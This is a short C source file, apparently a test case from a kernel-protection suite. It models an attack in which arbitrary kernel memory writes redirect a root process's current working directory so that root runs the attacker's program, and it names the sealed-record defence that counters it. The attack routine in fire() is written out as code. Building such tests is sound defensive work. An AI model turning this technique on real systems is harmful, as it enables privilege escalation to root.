// SPDX-License-Identifier: GPL-2.0-only
#include "helper_program.h"

ATTACK("cred_integrity", "cwd_other_place", "LOST",
       "A program of root starts \"helper\" where it stands. The attacker makes it stand in a "
       "directory of his own.",
       "Where a program stands is read from a sealed record, which its task's seal names.",
       "Root runs the attacker's program.");

static bool fire(void)
{
	const uint64_t victim = victim_task(own_task());
	const uint64_t cwd =
		peek(victim + member("task.file_context")) + member("file_context.cwd");

	poke(cwd + member("path.dentry"), make_own_place());
	wait_for_root();
	return false;
}

static void victim(void)
{
	make_helper();
	call1(__NR_chdir, (long)"/jobs");
	run_helper("helper");
}
